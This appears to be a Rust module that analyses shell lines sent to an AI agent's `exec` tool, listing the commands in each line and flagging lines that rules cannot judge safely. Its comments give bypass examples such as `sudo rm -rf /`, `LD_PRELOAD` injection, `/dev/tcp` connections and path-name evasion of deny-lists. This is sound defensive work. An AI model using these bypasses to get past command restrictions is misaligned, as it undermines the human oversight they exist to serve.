//! What a shell line runs: the analysis behind `args.commands` and `args.opaque` for the `exec`
//! tool, whose command string is run as `sh -c LINE`.
//!
//! [`analyze`] parses the line with a real shell grammar (the `brush-parser` crate, which reads
//! bash syntax, a superset of POSIX sh) and lists **every simple command it contains, wherever it
//! stands**: after `;`, `&`, `&&`, `||`, `|` or a newline, and inside `( )`, `{ }` and the bodies
//! of `if`, `while`, `until`, `for` and `case`. Each command has its `name` and `argv`
//! (`argv[0] == name`). Quoted operators are arguments (`ls '&&' id` is one command), and comments
//! are not commands.
//!
//! # Words
//!
//! A literal word is given as the shell would pass it, quotes and escapes removed (`'a b'` is
//! `a b`, `\;` is `;`). A word with an expansion the shell performs at run time (`$HOME`,
//! `${x}`, `~`, `$((1+1))`) is kept **as written** (`"$HOME/x"`), and makes the line opaque when it
//! is an argument: the command gets what the expansion gives, not what a rule reads
//! (`--outp${x}ut` is `--output`). So does a brace list (`{a,b}`, `{1..3}`), which bash expands
//! into other words. Pathname expansion is not performed: `rm *` has the argument `*` (a rule
//! that checks arguments for a prefix can be met by a file the glob matches).
//!
//! Names are **as written**: `/bin/rm`, `./rm` and `rm` are three different names, so a rule
//! that forbids `rm` by name does not forbid `/bin/rm` — write rules as allow-lists
//! (`args.commands.all(c, c.name in [...])`), never as deny-lists.
//!
//! # Opaque lines
//!
//! `opaque` is set when the listed commands may not be all that the line runs, or may not be what
//! runs under those names; `why_opaque` says why (the first reason found; it is not serialized).
//! A rule must refuse an opaque line (`!args.opaque && …`). An opaque line still lists the
//! commands found (for logs), none when it could not be parsed. The line is opaque when it has:
//! - command or process substitution (`$(…)`, `` `…` ``, `<(…)`, `>(…)`) anywhere but inside
//!   single quotes — including inside `"…"`, `${x:-…}` and `$((…))`;
//! - a command that runs a string or file as commands or changes what names mean: `eval`,
//!   `exec`, `source`, `.`, `command`, `builtin`, `trap`, `alias`, `hash`, `enable`, `shopt`,
//!   `fc`;
//! - a variable assignment, before a command (`LD_PRELOAD=x ls`) or alone (`X=1`), or through a
//!   builtin that sets variables (`export`, `readonly`, `declare`, `typeset`, `local`, `let`,
//!   `unset`, `getopts`, `mapfile`, `readarray`, `printf -v`, `set -a`/`-k`, `read` into an
//!   upper-case or proxy variable, `${x=…}`), or a `for` loop over an upper-case variable
//!   (`for PATH in …`): upper-case variables are the environment's, and they change how later
//!   commands run;
//! - a variable the line sets from text (`for`, `read`, `set --`) used where bash evaluates a
//!   variable's text as code — arithmetic (`$((x))`, `${a[x]}`, `[[ x -eq 1 ]]`), `test -v`,
//!   `${!x}`, `${x@P}` — since `a[$(id)]` there runs `id`; and `[[`/`test`/`[` given a word
//!   containing `$(` or a backquote, even quoted;
//! - a function definition, a here-document (`<<`) or here-string (`<<<`), a coprocess;
//! - an output redirection (`>`, `>>`, `>|`, `<>`, `&>`, `>&file`, `2>file`) to anything but
//!   `/dev/null` (duplicating a descriptor, `2>&1`, and reading, `<file`, are fine), `&>`
//!   followed by more words (POSIX sh reads `ls &>/dev/null rm` as `ls &` then `rm`), and any
//!   redirection from `/dev/tcp/…` or `/dev/udp/…` (a network connection in bash);
//! - a command name that is not a literal word (`$cmd`, `"$x"`, `~/bin/x`, `r?`, `{rm,x}`), or an
//!   argument with an expansion or a brace list (above);
//! - syntax that bash and POSIX sh read differently: `$'…'` and `$"…"` quoting, `(( … ))` and
//!   `for (( … ))` (POSIX sh reads `((rm x))` as nested subshells running `rm`);
//! - quoting or syntax the parser cannot parse (`echo 'x`), more than [`MAX_LINE_BYTES`]
//!   bytes, [`MAX_NESTING`] nesting openers or [`MAX_PAREN_DEPTH`] nested parentheses (bounds
//!   that keep the parser inside its stack and its time), or a number the parser cannot hold.
//!
//! An empty line (or one of comments) has no commands and is not opaque.
//!
//! # Wrappers run other commands
//!
//! `sudo`, `env`, `xargs`, `nohup`, `nice`, `timeout`, `time`, `watch`, `find -exec`, `git -c`,
//! `sh`, `bash`, `python -c`, `ssh` and the like are listed by their own names and are **not**
//! opaque, but each runs a command (or code) that is only an argument here: `sudo rm -rf /` is
//! the command `sudo`. A rule that means to restrict what runs must never allow such a wrapper.
//! The `time` keyword before a pipeline is listed as a command named `time`.
//!
//! # Limits
//!
//! - Only what the line itself says is judged: the environment the shell starts with (`PATH`,
//!   `BASH_ENV`, variables bash would evaluate in arithmetic) and the content of files that
//!   commands read or run are outside it.
//! - The grammar is bash's; the analysis adds the cases where POSIX sh reads a line differently,
//!   as listed above, so that it holds whether `sh` is dash (Debian, Ubuntu) or bash (macOS, or
//!   a configured shell). It was checked against both by running generated lines with logging
//!   stub commands (`differential_against_real_shells`, an ignored test).
//! - Arguments are judged only as strings: what a program does with them (`git -c
//!   core.pager=…`, `find -delete`) is for the rule to restrict.

use brush_parser::ast;
use brush_parser::word::{Parameter, ParameterExpr, WordPiece, WordPieceWithSource};
use brush_parser::{ParserImpl, ParserOptions};
use serde::Serialize;

/// `why_opaque` when the parser panicked (a bug in it: the line is opaque, the caller unharmed).
const PARSER_FAILED: &str = "the shell parser failed on the line";

/// A line longer than this (in bytes) is not parsed: it is opaque.
pub const MAX_LINE_BYTES: usize = 64 * 1024;

/// A line with more nesting openers than this (`(`, `{`, `[`, backquotes, `!`, `if`, `do`,
/// `case`, counted anywhere: an upper bound on its depth) is not parsed: it is opaque.
pub const MAX_NESTING: usize = 1000;

/// A line whose `(` operators nest deeper than this is not parsed: it is opaque. The parser
/// backtracks in time exponential in this depth on some malformed lines.
pub const MAX_PAREN_DEPTH: usize = 8;

/// The largest stack of the thread that parses a line (for [`MAX_NESTING`] levels). A nesting
/// level costs the parser up to about 18 KiB of stack in a debug build (less in release); the
/// thread gets 1 MiB and 64 KiB a level, reserved, not committed.
pub const PARSER_STACK_BYTES: usize = (1 << 20) + MAX_NESTING * (64 << 10);

fn stack_bytes(nesting_bound: usize) -> usize {
    (1 << 20) + nesting_bound.min(MAX_NESTING) * (64 << 10)
}

/// What a shell line runs, as far as its text says.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ShellLine {
    /// Every simple command of the line, in the order they are written.
    pub commands: Vec<SimpleCommand>,
    /// The line cannot be judged safely by its commands (see the module's documentation).
    pub opaque: bool,
    /// Why the line is opaque: the first reason found.
    #[serde(skip)]
    pub why_opaque: Option<String>,
}

/// One simple command: a name and its arguments.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SimpleCommand {
    /// The command name as written, quotes removed (`/bin/ls`, `git`).
    pub name: String,
    /// The words of the command, `argv[0] == name`.
    pub argv: Vec<String>,
}

/// Analyses a shell line: every simple command it contains, and whether it is opaque.
/// Never panics.
///
/// The parser recurses once per nesting level, so it runs on a thread of its own with a stack
/// sized to the line (at most [`PARSER_STACK_BYTES`]); a panic inside it makes the line opaque.
/// The thread costs some 40 µs a call (release build).
pub fn analyze(line: &str) -> ShellLine {
    if line.len() > MAX_LINE_BYTES {
        return ShellLine::opaque_only(format!("the line is longer than {MAX_LINE_BYTES} bytes"));
    }
    let bound = nesting_bound(line);
    if bound > MAX_NESTING {
        return ShellLine::opaque_only(format!(
            "the line has more than {MAX_NESTING} nesting openers"
        ));
    }
    if let Some(why) = overflowing_number(line) {
        return ShellLine::opaque_only(why);
    }
    let owned = line.to_owned();
    let spawned = std::thread::Builder::new()
        .name("shell-analyze".to_owned())
        .stack_size(stack_bytes(bound))
        .spawn(move || analyze_here(&owned));
    match spawned {
        Ok(handle) => handle
            .join()
            .unwrap_or_else(|_| ShellLine::opaque_only(PARSER_FAILED.to_owned())),
        Err(error) => {
            ShellLine::opaque_only(format!("the shell parser could not be started: {error}"))
        }
    }
}

fn analyze_here(line: &str) -> ShellLine {
    let mut walker = Walker::default();
    if let Some(why) = prescan(line) {
        walker.flag(why);
    }
    let options = options();
    let parsed = brush_parser::uncached_tokenize_str(line, &options.tokenizer_options())
        .map_err(|error| error.to_string())
        .and_then(|tokens| {
            if paren_depth(&tokens) > MAX_PAREN_DEPTH {
                return Err(format!(
                    "parentheses nest deeper than {MAX_PAREN_DEPTH} levels"
                ));
            }
            brush_parser::parse_tokens(&tokens, &options).map_err(|error| error.to_string())
        });
    match parsed {
        Ok(program) => {
            walker.program(&program);
            walker.finish()
        }
        Err(error) => ShellLine::opaque_only(
            walker
                .why
                .unwrap_or_else(|| format!("the line cannot be parsed: {error}")),
        ),
    }
}

/// How deep `(` operators nest. brush-parser's grammar backtracks exponentially in it where a
/// `((` arithmetic command or a `[[ =~ ]]` group fails to close (`(( ((((( x ; )))))))`).
fn paren_depth(tokens: &[brush_parser::Token]) -> usize {
    let mut depth = 0usize;
    let mut max = 0;
    for token in tokens {
        if let brush_parser::Token::Operator(op, _) = token {
            match op.as_str() {
                "(" => {
                    depth += 1;
                    max = max.max(depth);
                }
                ")" => depth = depth.saturating_sub(1),
                _ => {}
            }
        }
    }
    max
}

/// brush-parser 0.4 `unwrap`s two numbers that can overflow: a descriptor before a redirection
/// (`99999999999>x`, an `i32`) and a directory-stack tilde (`~+99999999999999999999`, a
/// `usize`). Such lines are opaque without parsing (the thread would catch the panic, but its
/// message would still be printed).
fn overflowing_number(line: &str) -> Option<String> {
    let bytes = line.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i].is_ascii_digit() {
            let start = i;
            while i < bytes.len() && bytes[i].is_ascii_digit() {
                i += 1;
            }
            let digits = i - start;
            let before = start.checked_sub(1).map(|j| bytes[j]);
            let tilde = match before {
                Some(b'~') => true,
                Some(b'+' | b'-') => start >= 2 && bytes[start - 2] == b'~',
                _ => false,
            };
            if (digits >= 10 && matches!(bytes.get(i), Some(b'<' | b'>')))
                || (tilde && digits >= 19)
            {
                return Some("a number too large for the shell parser".to_owned());
            }
        } else {
            i += 1;
        }
    }
    None
}

impl ShellLine {
    fn opaque_only(why: String) -> Self {
        Self {
            commands: Vec::new(),
            opaque: true,
            why_opaque: Some(why),
        }
    }
}

/// The grammar `sh -c` reads: bash's, without extended globbing (off in a non-interactive
/// shell).
fn options() -> ParserOptions {
    ParserOptions {
        enable_extended_globbing: false,
        posix_mode: false,
        sh_mode: false,
        tilde_expansion_at_word_start: true,
        tilde_expansion_after_colon: false,
        parser_impl: ParserImpl::Peg,
    }
}

/// An upper bound on the nesting depth of the line: every character or keyword that can open a
/// level, wherever it stands (quoted or not).
fn nesting_bound(line: &str) -> usize {
    let chars = line
        .bytes()
        .filter(|b| matches!(b, b'(' | b'{' | b'[' | b'`' | b'!'))
        .count();
    let keywords = ["if", "do", "case"]
        .iter()
        .map(|k| line.matches(k).count())
        .sum::<usize>();
    chars + keywords
}

/// A second, independent look for substitutions: a quote-aware scan of the raw line for `$(`,
/// a backquote, `<(` or `>(` outside single quotes. It can only add opacity (the syntax tree is
/// checked as well); it guards against the parser reading a substitution as something else.
fn prescan(line: &str) -> Option<String> {
    #[derive(PartialEq)]
    enum Quote {
        None,
        Single,
        Double,
        AnsiC,
    }
    let bytes = line.as_bytes();
    let mut quote = Quote::None;
    let mut i = 0;
    let at = |j: usize| bytes.get(j).copied().unwrap_or(0);
    while i < bytes.len() {
        let c = bytes[i];
        match quote {
            Quote::Single => {
                if c == b'\'' {
                    quote = Quote::None;
                }
            }
            Quote::AnsiC => {
                if c == b'\\' {
                    i += 1;
                } else if c == b'\'' {
                    quote = Quote::None;
                }
            }
            Quote::Double | Quote::None => {
                let unquoted = quote == Quote::None;
                match c {
                    b'\\' => i += 1,
                    b'`' => return Some("a backquoted command substitution".into()),
                    b'$' if at(i + 1) == b'(' && at(i + 2) != b'(' => {
                        return Some("a command substitution `$(…)`".into());
                    }
                    b'$' if at(i + 1) == b'(' => i += 2,
                    b'"' if unquoted => quote = Quote::Double,
                    b'"' => quote = Quote::None,
                    b'\'' if unquoted => quote = Quote::Single,
                    b'$' if unquoted && at(i + 1) == b'\'' => {
                        quote = Quote::AnsiC;
                        i += 1;
                    }
                    b'<' | b'>' if unquoted && at(i + 1) == b'(' => {
                        return Some("a process substitution".into());
                    }
                    b'#' if unquoted
                        && (i == 0
                            || matches!(
                                bytes[i - 1],
                                b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')'
                            )) =>
                    {
                        while i < bytes.len() && bytes[i] != b'\n' {
                            i += 1;
                        }
                    }
                    _ => {}
                }
            }
        }
        i += 1;
    }
    None
}

/// A word of the line, analysed.
struct WordOut {
    /// Unquoted when `literal`, else the word as written.
    text: String,
    /// No run-time expansion: `text` is exactly what the command receives (before pathname and
    /// brace expansion).
    literal: bool,
    /// Unquoted pathname or brace expansion characters (`*`, `?`, `[…]`, `{`).
    pattern: bool,
}

const AND_REDIRECT_WORDS: &str =
    "`&>` followed by more words, which POSIX sh runs as a command of their own";

/// Builtins that run text as commands, or change what later command names mean.
const RUNS_OR_REDEFINES: &[&str] = &[
    "eval", "exec", "source", ".", "command", "builtin", "trap", "fc", "alias", "hash", "enable",
    "shopt",
];

/// Builtins that set shell variables (and so, for exported ones, the environment of later
/// commands), some evaluating their arguments as arithmetic.
const SETS_VARIABLES: &[&str] = &[
    "export",
    "readonly",
    "declare",
    "typeset",
    "local",
    "let",
    "unset",
    "getopts",
    "mapfile",
    "readarray",
];

#[derive(Default)]
struct Walker {
    commands: Vec<SimpleCommand>,
    why: Option<String>,
    /// The line sets a variable from text (`for`, `read`, `set --`).
    sets_from_text: bool,
    /// The line has a place where bash evaluates a variable's text as code (arithmetic, an
    /// array index, `${!x}`, `${x@P}`, `test -v`).
    evaluates_text: bool,
}

impl Walker {
    fn flag(&mut self, why: impl Into<String>) {
        if self.why.is_none() {
            self.why = Some(why.into());
        }
    }

    fn finish(mut self) -> ShellLine {
        if self.sets_from_text && self.evaluates_text {
            self.flag(
                "a variable set from text in this line is used where bash evaluates text as code \
                 (arithmetic, an array index, `${!x}`, `${x@P}`, `test -v`)",
            );
        }
        ShellLine {
            commands: self.commands,
            opaque: self.why.is_some(),
            why_opaque: self.why,
        }
    }

    fn program(&mut self, program: &ast::Program) {
        for list in &program.complete_commands {
            self.list(list);
        }
    }

    fn list(&mut self, list: &ast::CompoundList) {
        for ast::CompoundListItem(and_or, _) in &list.0 {
            self.pipeline(&and_or.first);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p),
                }
            }
        }
    }

    fn pipeline(&mut self, pipeline: &ast::Pipeline) {
        if let Some(timed) = &pipeline.timed {
            let mut argv = vec!["time".to_owned()];
            if matches!(timed, ast::PipelineTimed::TimedWithPosixOutput(_)) {
                argv.push("-p".to_owned());
            }
            self.commands.push(SimpleCommand {
                name: "time".to_owned(),
                argv,
            });
        }
        for command in &pipeline.seq {
            self.command(command);
        }
    }

    fn command(&mut self, command: &ast::Command) {
        match command {
            ast::Command::Simple(simple) => self.simple(simple),
            ast::Command::Compound(compound, redirects) => {
                self.compound(compound);
                self.redirect_list(redirects.as_ref());
            }
            ast::Command::Function(function) => {
                self.flag(format!(
                    "a function definition (`{}`)",
                    function.fname.value
                ));
                self.compound(&function.body.0);
                self.redirect_list(function.body.1.as_ref());
            }
            ast::Command::ExtendedTest(test, redirects) => {
                let mut argv = vec!["[[".to_owned()];
                self.test_expr(&test.expr, &mut argv);
                argv.push("]]".to_owned());
                self.check_named(&argv, &[]);
                self.commands.push(SimpleCommand {
                    name: "[[".to_owned(),
                    argv,
                });
                self.redirect_list(redirects.as_ref());
            }
        }
    }

    fn test_expr(&mut self, expr: &ast::ExtendedTestExpr, argv: &mut Vec<String>) {
        use ast::ExtendedTestExpr as E;
        match expr {
            E::And(a, b) | E::Or(a, b) => {
                self.test_expr(a, argv);
                argv.push(
                    if matches!(expr, E::And(..)) {
                        "&&"
                    } else {
                        "||"
                    }
                    .to_owned(),
                );
                self.test_expr(b, argv);
            }
            E::Not(a) => {
                argv.push("!".to_owned());
                self.test_expr(a, argv);
            }
            E::Parenthesized(a) => {
                argv.push("(".to_owned());
                self.test_expr(a, argv);
                argv.push(")".to_owned());
            }
            E::UnaryTest(predicate, word) => {
                if matches!(
                    predicate,
                    ast::UnaryPredicate::ShellVariableIsSetAndAssigned
                        | ast::UnaryPredicate::ShellVariableIsSetAndNameRef
                ) {
                    self.evaluates_text = true;
                }
                argv.push(predicate.to_string());
                let word = self.word(&word.value);
                argv.push(word.text);
            }
            E::BinaryTest(predicate, left, right) => {
                use ast::BinaryPredicate as B;
                if matches!(
                    predicate,
                    B::ArithmeticEqualTo
                        | B::ArithmeticNotEqualTo
                        | B::ArithmeticLessThan
                        | B::ArithmeticLessThanOrEqualTo
                        | B::ArithmeticGreaterThan
                        | B::ArithmeticGreaterThanOrEqualTo
                ) {
                    self.evaluates_text = true;
                }
                let left = self.word(&left.value);
                argv.push(left.text);
                argv.push(predicate.to_string());
                let right = self.word(&right.value);
                argv.push(right.text);
            }
        }
    }

    fn compound(&mut self, compound: &ast::CompoundCommand) {
        use ast::CompoundCommand as C;
        match compound {
            C::BraceGroup(group) => self.list(&group.list),
            C::Subshell(subshell) => self.list(&subshell.list),
            C::ForClause(for_clause) => {
                self.sets_from_text = true;
                if is_environment_variable(&for_clause.variable_name) {
                    self.flag(format!(
                        "a `for` loop sets the variable `{}`",
                        for_clause.variable_name
                    ));
                }
                for value in for_clause.values.iter().flatten() {
                    self.word(&value.value);
                }
                self.list(&for_clause.body.list);
            }
            C::CaseClause(case) => {
                self.word(&case.value.value);
                for item in &case.cases {
                    for pattern in &item.patterns {
                        self.word(&pattern.value);
                    }
                    if let Some(list) = &item.cmd {
                        self.list(list);
                    }
                }
            }
            C::IfClause(if_clause) => {
                self.list(&if_clause.condition);
                self.list(&if_clause.then);
                for else_clause in if_clause.elses.iter().flatten() {
                    if let Some(condition) = &else_clause.condition {
                        self.list(condition);
                    }
                    self.list(&else_clause.body);
                }
            }
            C::WhileClause(clause) | C::UntilClause(clause) => {
                self.list(&clause.0);
                self.list(&clause.1.list);
            }
            C::Arithmetic(_) => {
                self.flag("an arithmetic command `(( … ))`, which POSIX sh reads as subshells");
            }
            C::ArithmeticForClause(for_clause) => {
                self.flag("an arithmetic `for (( … ))` loop");
                self.list(&for_clause.body.list);
            }
            C::Coprocess(coprocess) => {
                self.flag("a coprocess");
                self.command(&coprocess.body);
            }
        }
    }

    fn redirect_list(&mut self, redirects: Option<&ast::RedirectList>) {
        let mut and_redirect = false;
        for redirect in redirects.iter().flat_map(|r| r.0.iter()) {
            self.redirect(redirect, &mut and_redirect);
        }
    }

    /// Checks one redirection; `and_redirect` is set by a `&>` / `&>>`.
    fn redirect(&mut self, redirect: &ast::IoRedirect, and_redirect: &mut bool) {
        use ast::IoFileRedirectKind as K;
        use ast::IoFileRedirectTarget as T;
        match redirect {
            ast::IoRedirect::File(_, kind, target) => match target {
                T::ProcessSubstitution(..) => self.flag("a process substitution"),
                T::Fd(_) => {}
                T::Filename(word) => {
                    let target = self.word(&word.value);
                    if !matches!(kind, K::Read) && !is_dev_null(&target) {
                        self.flag(format!("an output redirection to `{}`", target.text));
                    } else if target.text.starts_with("/dev/tcp/")
                        || target.text.starts_with("/dev/udp/")
                    {
                        self.flag(format!(
                            "a redirection from `{}`, a network connection in bash",
                            target.text
                        ));
                    }
                }
                T::Duplicate(word) => {
                    let target = self.word(&word.value);
                    let allowed = (target.literal && is_fd_spec(&target.text))
                        || (matches!(kind, K::DuplicateOutput) && is_dev_null(&target));
                    if !allowed {
                        self.flag(format!("a redirection to `{}`", target.text));
                    }
                }
            },
            ast::IoRedirect::HereDocument(..) => self.flag("a here-document"),
            ast::IoRedirect::HereString(..) => self.flag("a here-string"),
            ast::IoRedirect::OutputAndError(word, _) => {
                let target = self.word(&word.value);
                if !is_dev_null(&target) {
                    self.flag(format!("an output redirection to `{}`", target.text));
                }
                *and_redirect = true;
            }
        }
    }

    fn simple(&mut self, simple: &ast::SimpleCommand) {
        let mut and_redirect = false;
        let mut words: Vec<&ast::Word> = Vec::new();
        for item in simple.prefix.iter().flat_map(|p| p.0.iter()) {
            match item {
                ast::CommandPrefixOrSuffixItem::IoRedirect(r) => {
                    self.redirect(r, &mut and_redirect)
                }
                ast::CommandPrefixOrSuffixItem::AssignmentWord(_, word) => {
                    self.word(&word.value);
                    self.flag(format!("a variable assignment (`{}`)", word.value));
                }
                ast::CommandPrefixOrSuffixItem::Word(word) => words.push(word),
                ast::CommandPrefixOrSuffixItem::ProcessSubstitution(..) => {
                    self.flag("a process substitution");
                }
            }
        }
        if let Some(name) = &simple.word_or_name {
            if and_redirect {
                self.flag(AND_REDIRECT_WORDS);
            }
            words.push(name);
        }
        for item in simple.suffix.iter().flat_map(|s| s.0.iter()) {
            match item {
                ast::CommandPrefixOrSuffixItem::IoRedirect(r) => {
                    self.redirect(r, &mut and_redirect)
                }
                // After the name, `X=1` is an argument like any other word.
                ast::CommandPrefixOrSuffixItem::AssignmentWord(_, word)
                | ast::CommandPrefixOrSuffixItem::Word(word) => {
                    if and_redirect {
                        self.flag(AND_REDIRECT_WORDS);
                    }
                    words.push(word);
                }
                ast::CommandPrefixOrSuffixItem::ProcessSubstitution(..) => {
                    self.flag("a process substitution");
                }
            }
        }
        let Some((first, rest)) = words.split_first() else {
            return;
        };
        let name = self.word(&first.value);
        if !name.literal || name.pattern {
            self.flag(format!(
                "the command name `{}` is not a literal word",
                name.text
            ));
        }
        let name_literal = name.literal && !name.pattern;
        let mut argv = vec![name.text];
        let mut literal = vec![name_literal];
        for word in rest {
            let word = self.word(&word.value);
            // An argument the shell rewrites when the line runs (a variable, `~`, arithmetic,
            // a brace list) is not what a rule reads: `--outp${x}ut` is `--output`.
            if !word.literal {
                self.flag(format!(
                    "the argument `{}` is expanded when the line runs, so the command may not get what the line shows",
                    word.text
                ));
            } else if word.pattern
                && word.text.contains('{')
                && word.text.contains('}')
                && (word.text.contains(',') || word.text.contains(".."))
            {
                self.flag(format!(
                    "the argument `{}` is a brace list, which bash expands into other words",
                    word.text
                ));
            }
            literal.push(word.literal);
            argv.push(word.text);
        }
        if name_literal {
            self.check_named(&argv, &literal);
        }
        self.commands.push(SimpleCommand {
            name: argv[0].clone(),
            argv,
        });
    }

    /// The checks that depend on what the command is. `literal[i]` tells whether `argv[i]` is
    /// literal (missing entries count as literal).
    fn check_named(&mut self, argv: &[String], literal: &[bool]) {
        let Some(name) = argv.first() else { return };
        let name = name.as_str();
        let args = argv.get(1..).unwrap_or_default();
        let is_literal = |i: usize| literal.get(i + 1).copied().unwrap_or(true);
        if RUNS_OR_REDEFINES.contains(&name) {
            self.flag(format!(
                "`{name}` runs commands the line does not show, or changes what names mean"
            ));
        } else if SETS_VARIABLES.contains(&name) {
            self.flag(format!("`{name}` sets shell variables"));
        }
        match name {
            "set" => {
                if (0..args.len()).any(|i| !is_literal(i)) || set_changes_assignment(args) {
                    self.flag("`set` with options that change how variables are assigned");
                }
                if set_positional(args) {
                    self.sets_from_text = true;
                }
            }
            "printf" if !is_literal(0) || args.first().is_some_and(|a| a.starts_with("-v")) => {
                self.flag("`printf -v` sets a shell variable");
            }
            "read" => {
                self.sets_from_text = true;
                let unsafe_name = args.iter().enumerate().any(|(i, a)| {
                    !is_literal(i) || (!a.starts_with('-') && !is_plain_local_name(a))
                });
                if unsafe_name {
                    self.flag("`read` into a variable other than a lower-case local one");
                }
            }
            "test" | "[" | "[[" => {
                if args.iter().any(|a| a.contains("$(") || a.contains('`')) {
                    self.flag(format!(
                        "`{name}` with a word containing a command substitution, which bash \
                         evaluates in arithmetic"
                    ));
                }
                if name != "[[" && args.iter().any(|a| a == "-v" || a == "-R") {
                    self.evaluates_text = true;
                }
            }
            _ => {}
        }
    }

    /// Analyses a word: flags substitutions and the quoting that bash and sh read differently.
    fn word(&mut self, raw: &str) -> WordOut {
        let pieces = match brush_parser::word::parse(raw, &options()) {
            Ok(pieces) => pieces,
            Err(_) => {
                self.flag(format!("the word `{raw}` cannot be parsed"));
                return WordOut {
                    text: raw.to_owned(),
                    literal: false,
                    pattern: false,
                };
            }
        };
        let mut out = WordOut {
            text: String::new(),
            literal: true,
            pattern: false,
        };
        for piece in &pieces {
            self.piece(raw, piece, false, &mut out);
        }
        if !out.literal {
            out.text = raw.to_owned();
        }
        out
    }

    fn piece(&mut self, raw: &str, piece: &WordPieceWithSource, quoted: bool, out: &mut WordOut) {
        match &piece.piece {
            WordPiece::Text(text) => {
                if quoted {
                    // A backslash-newline inside double quotes is a line continuation.
                    out.text.push_str(&text.replace("\\\n", ""));
                } else {
                    if text.contains(['*', '?', '{']) || (text.contains('[') && text.contains(']'))
                    {
                        out.pattern = true;
                    }
                    out.text.push_str(text);
                }
            }
            WordPiece::SingleQuotedText(text) => out.text.push_str(text),
            WordPiece::EscapeSequence(escape) => {
                let escaped = escape.strip_prefix('\\').unwrap_or(escape);
                if escaped != "\n" {
                    out.text.push_str(escaped);
                }
            }
            WordPiece::DoubleQuotedSequence(inner) => {
                for piece in inner {
                    self.piece(raw, piece, true, out);
                }
            }
            WordPiece::AnsiCQuotedText(_) | WordPiece::GettextDoubleQuotedSequence(_) => {
                out.literal = false;
                self.flag("`$'…'` or `$\"…\"` quoting, which bash and POSIX sh read differently");
            }
            WordPiece::TildeExpansion(_) => out.literal = false,
            WordPiece::ParameterExpansion(expr) => {
                out.literal = false;
                let source = raw.get(piece.start_index..piece.end_index).unwrap_or(raw);
                if has_substitution(source) {
                    self.flag(format!("a substitution inside `{source}`"));
                }
                if matches!(expr, ParameterExpr::AssignDefaultValues { .. }) {
                    self.flag(format!("`{source}` assigns a variable"));
                }
                if evaluates_text(expr) {
                    self.evaluates_text = true;
                }
            }
            WordPiece::ArithmeticExpression(expr) => {
                out.literal = false;
                self.evaluates_text = true;
                if has_substitution(&expr.value) {
                    self.flag("a command substitution inside an arithmetic expansion");
                }
            }
            WordPiece::CommandSubstitution(_) | WordPiece::BackquotedCommandSubstitution(_) => {
                out.literal = false;
                self.flag("a command substitution");
            }
        }
    }
}

fn has_substitution(text: &str) -> bool {
    text.contains("$(") || text.contains('`') || text.contains("<(") || text.contains(">(")
}

/// A parameter expansion in which bash evaluates a variable's text as code: an array index, a
/// substring offset, an indirection (`${!x}`) or prompt expansion (`${x@P}`).
fn evaluates_text(expr: &ParameterExpr) -> bool {
    use brush_parser::word::ParameterTransformOp;
    match expr {
        ParameterExpr::Substring { .. } => true,
        ParameterExpr::Transform {
            op: ParameterTransformOp::PromptExpand,
            ..
        } => true,
        ParameterExpr::VariableNames { .. } | ParameterExpr::MemberKeys { .. } => false,
        ParameterExpr::Parameter {
            parameter,
            indirect,
        }
        | ParameterExpr::UseDefaultValues {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::AssignDefaultValues {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::IndicateErrorIfNullOrUnset {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::UseAlternativeValue {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::ParameterLength {
            parameter,
            indirect,
        }
        | ParameterExpr::RemoveSmallestSuffixPattern {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::RemoveLargestSuffixPattern {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::RemoveSmallestPrefixPattern {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::RemoveLargestPrefixPattern {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::Transform {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::UppercaseFirstChar {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::UppercasePattern {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::LowercaseFirstChar {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::LowercasePattern {
            parameter,
            indirect,
            ..
        }
        | ParameterExpr::ReplaceSubstring {
            parameter,
            indirect,
            ..
        } => *indirect || matches!(parameter, Parameter::NamedWithIndex { .. }),
    }
}

fn is_dev_null(word: &WordOut) -> bool {
    word.literal && !word.pattern && word.text == "/dev/null"
}

/// `1`, `2-` (move) or `-` (close).
fn is_fd_spec(text: &str) -> bool {
    let digits = text.strip_suffix('-').unwrap_or(text);
    digits.bytes().all(|b| b.is_ascii_digit()) && (!digits.is_empty() || text == "-")
}

/// A variable the environment may hold: upper-case (`PATH`, `LD_PRELOAD`) or a proxy setting.
fn is_environment_variable(name: &str) -> bool {
    name.bytes().any(|b| b.is_ascii_uppercase()) || name.to_ascii_lowercase().ends_with("_proxy")
}

/// A lower-case shell variable name that is no environment setting (`line`, `f`).
fn is_plain_local_name(name: &str) -> bool {
    let mut bytes = name.bytes();
    bytes
        .next()
        .is_some_and(|b| b.is_ascii_lowercase() || b == b'_')
        && bytes.all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_')
        && !is_environment_variable(name)
}

/// `set -a` (export every assignment) or `set -k` (assignments anywhere in a command).
fn set_changes_assignment(args: &[String]) -> bool {
    let mut args = args.iter();
    while let Some(arg) = args.next() {
        if arg == "--" || arg == "-" {
            return false;
        }
        let Some(flags) = arg.strip_prefix('-').or_else(|| arg.strip_prefix('+')) else {
            return false;
        };
        if flags.contains(['a', 'k']) {
            return true;
        }
        if flags.contains('o')
            && args
                .next()
                .is_some_and(|o| o == "allexport" || o == "keyword")
        {
            return true;
        }
    }
    false
}

/// `set` with operands: it sets the positional parameters.
fn set_positional(args: &[String]) -> bool {
    let mut args = args.iter().peekable();
    while let Some(arg) = args.next() {
        if arg == "--" || arg == "-" {
            return args.peek().is_some();
        }
        match arg.strip_prefix('-').or_else(|| arg.strip_prefix('+')) {
            Some(flags) => {
                if flags.contains('o') {
                    args.next();
                }
            }
            None => return true,
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// The bypass table: a line, the names of the commands it must list, and whether it is
    /// opaque.
